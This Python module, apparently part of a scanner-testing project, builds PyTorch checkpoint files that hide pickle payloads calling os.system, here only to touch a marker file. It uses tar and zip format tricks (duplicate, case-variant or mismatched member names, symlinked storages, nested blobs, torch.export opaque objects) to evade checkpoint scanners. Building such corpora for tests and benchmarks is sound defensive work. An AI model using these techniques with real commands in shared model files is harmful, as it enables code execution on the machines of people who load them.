"""Container-level payloads: files whose *container* decides what torch.load, dcp.load or pickle.load unpickles.

Each builder returns file bytes (or writes a directory) carrying a payload pickle; ``live_payloads`` lists them
with the loader that runs it, so a test can prove the loader really runs it (tests/checkpoint/test_containers.py)
and bench/scanners.py can put them in its corpus (via ``corpus.build``). Built from struct, zipfile, tarfile and
torch only; nothing is downloaded.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def evil(marker: str) -> bytes:
    """Protocol 2 pickle: ``os.system("touch MARKER")`` (``posix.system`` on Linux, as pickle writes it)."""
    cmd = f"touch {marker}".encode()
    return b"\x80\x02cos\nsystem\nq\x00X" + struct.pack("<I", len(cmd)) + cmd + b"\x85R."


def v7_header(name: bytes, size: int, kind: bytes = b"0", link: bytes = b"") -> bytes:
    """A pre-POSIX (v7) tar header: no ``ustar`` magic, only the checksum says it is a tar header."""
    head = bytearray(512)
    head[0:len(name)] = name
    head[100:108] = b"0000644\x00"
    head[108:116] = head[116:124] = b"0000000\x00"
    head[124:136] = b"%011o\x00" % size
    head[136:148] = b"00000000000\x00"
    head[148:156] = b" " * 8
    head[156:157] = kind
    head[157:157 + len(link)] = link
    head[148:156] = b"%06o\x00 " % sum(head)
    return bytes(head)


def _member(name: bytes, data: bytes) -> bytes:
    return v7_header(name, len(data)) + data + bytes(-len(data) % 512)


def tar_members(marker: str, where: str = "pickle") -> dict[str, bytes]:
    """The three members torch < 0.4 wrote, for an empty dict; member ``where`` carries the payload instead."""
    members = {
        "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),  # no storages, no views
        "tensors": pickle.dumps(0, 2),
        "pickle": pickle.dumps({}, 2),
    }
    members[where] = evil(marker) if where != "storages" else evil(marker) + pickle.dumps([], 2)
    return members


def v7_tar(marker: str, where: str = "pickle", first: bytes = b"N.") -> bytes:
    """torch < 0.4's tar checkpoint in the v7 format. The first member's *name* (``N.``) parses as a pickle, so a
    reader that does not check tar headers first sees "a plain pickle of None with trailing data"."""
    out = _member(first, b"")
    for name, data in tar_members(marker, where).items():
        out += _member(name.encode(), data)
    return out + bytes(1024)


def ustar_tar(marker: str, where: str = "pickle") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in tar_members(marker, where).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def tar_symlinked_storages(target: str) -> bytes:
    """A tar whose ``storages`` member is a symlink: torch.load extracts it and unpickles whatever it points to."""
    out = v7_header(b"storages", 0, b"2", target.encode())
    for name, data in (("tensors", pickle.dumps(0, 2)), ("pickle", pickle.dumps({}, 2))):
        out += _member(name.encode(), data)
    return out + bytes(1024)


def _zip(items: list[tuple[str, bytes]]) -> bytes:
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate names written on purpose
        for name, data in items:
            zf.writestr(name, data)
    return buf.getvalue()


def zip_duplicate(marker: str, evil_first: bool = True, other_name: str = "archive/data.pkl") -> bytes:
    """Two ``data.pkl`` members (or two whose names differ only in case): torch's reader picks one by binary
    search, a zipfile dict the last."""
    good, bad = pickle.dumps({"a": 1}, 2), evil(marker)
    pkls = [("archive/data.pkl", bad), (other_name, good)] if evil_first else \
        [("archive/data.pkl", good), (other_name, bad)]
    return _zip(pkls + [("archive/byteorder", b"little"), ("archive/version", b"3\n")])


def zip_upper_case(marker: str) -> bytes:
    """``ARCHIVE/DATA.PKL``: torch's lookup ignores case."""
    return _zip([("archive/DATA.PKL", evil(marker)), ("archive/byteorder", b"little"), ("archive/version", b"3\n")])


def zip_name_mismatch(marker: str) -> bytes:
    """The directory says ``archive/data.pkl``, the local header ``archive/data.pkX``: torch reads it by the
    directory's name (zipfile refuses it)."""
    raw = bytearray(_zip([("archive/data.pkl", evil(marker)), ("archive/byteorder", b"little"),
                          ("archive/version", b"3\n")]))
    local = raw.index(b"PK\x03\x04")
    n = struct.unpack_from("<H", raw, local + 26)[0]
    assert raw[local + 30: local + 30 + n] == b"archive/data.pkl"
    raw[local + 30 + n - 1] = ord("X")
    return bytes(raw)


def legacy_byte8_brace(marker: str) -> bytes:
    """A pickle stream whose byte 8 is ``{`` (inside a string argument) and that calls os.system: not a
    safetensors header, whatever byte 8 says."""
    head = b"\x80\x02NX\x01\x00\x00\x00{00"
    assert head[8:9] == b"{"
    return head + evil(marker)[2:]


def _legacy_stream(main: bytes) -> bytes:
    parts = [LEGACY_MAGIC, 1001, {"protocol_version": 1001, "little_endian": True,
                                  "type_sizes": {"short": 2, "int": 4, "long": 4}}]
    return b"".join(pickle.dumps(x, protocol=2) for x in parts) + main + pickle.dumps([], 2)


def _load_from_bytes(blob: bytes) -> bytes:
    return b"\x80\x02ctorch.storage\n_load_from_bytes\nq\x00B" + struct.pack("<I", len(blob)) + blob + b"\x85R."


def nested_blobs(marker: str, depth: int = 3) -> bytes:
    """``torch.storage._load_from_bytes`` nested ``depth`` deep, the payload in the deepest blob's object pickle."""
    inner = _legacy_stream(evil(marker))
    for _ in range(depth - 1):
        inner = _legacy_stream(_load_from_bytes(inner))
    return _load_from_bytes(inner)


def dcp_with_value(root: Path, marker: str) -> Path:
    """``dcp.save`` of a tensor and a non-tensor value whose pickle runs the payload when dcp.load reads it."""
    import torch
    from torch.distributed.checkpoint import save

    class Evil:
        def __reduce__(self):  # noqa: ANN204
            return (os.system, (f"touch {marker}",))

    save({"w": torch.zeros(2), "extra": {"cfg": Evil()}}, checkpoint_id=str(root))
    return root


def live_payloads(marker: str) -> dict[str, tuple[bytes, str]]:
    """name -> (file bytes, the loader that runs it: "torch.load" (weights_only=False) or "pickle.load")."""
    return {
        "tar-v7-pickle-name.pt": (v7_tar(marker), "torch.load"),
        "tar-v7-payload-in-storages.pt": (v7_tar(marker, "storages"), "torch.load"),
        "tar-ustar.pt": (ustar_tar(marker), "torch.load"),
        "zip-duplicate-evil-first.pt": (zip_duplicate(marker, True), "torch.load"),
        "zip-duplicate-evil-last.pt": (zip_duplicate(marker, False, "archive/DATA.pkl"), "torch.load"),
        "zip-upper-case.pt": (zip_upper_case(marker), "torch.load"),
        "zip-name-mismatch.pt": (zip_name_mismatch(marker), "torch.load"),
        "legacy-byte8-brace.pt": (legacy_byte8_brace(marker), "torch.load"),
        "blobs-nested-3.pkl": (nested_blobs(marker, 3), "pickle.load"),
        "pickle-with-trailing-data.pkl": (evil(marker) + b"trailing bytes", "pickle.load"),
    }


def pt2_with_opaque_object(path: Path, marker: str) -> Path:
    """A ``torch.export.save`` archive whose constants config lists an ``opaque_obj_*`` member: torch.export.load
    reads it with ``pickle.loads``."""
    import json

    import torch

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x):  # noqa: ANN001, ANN202
            return self.lin(x)

    torch.export.save(torch.export.export(Tiny(), (torch.randn(1, 2),)), path)
    src = zipfile.ZipFile(path)
    items = [(i.filename, src.read(i)) for i in src.infolist()]
    prefix = items[0][0].split("/")[0] + "/"
    out = []
    for name, data in items:
        if name.endswith("model_constants_config.json"):
            doc = json.loads(data)
            doc.setdefault("config", {})["evil"] = {"path_name": "opaque_obj_0", "is_param": False,
                                                    "use_pickle": True, "tensor_meta": None}
            data = json.dumps(doc).encode()
        out.append((name, data))
    out.append((prefix + "data/constants/opaque_obj_0", evil(marker)))
    path.write_bytes(_zip(out))
    return path
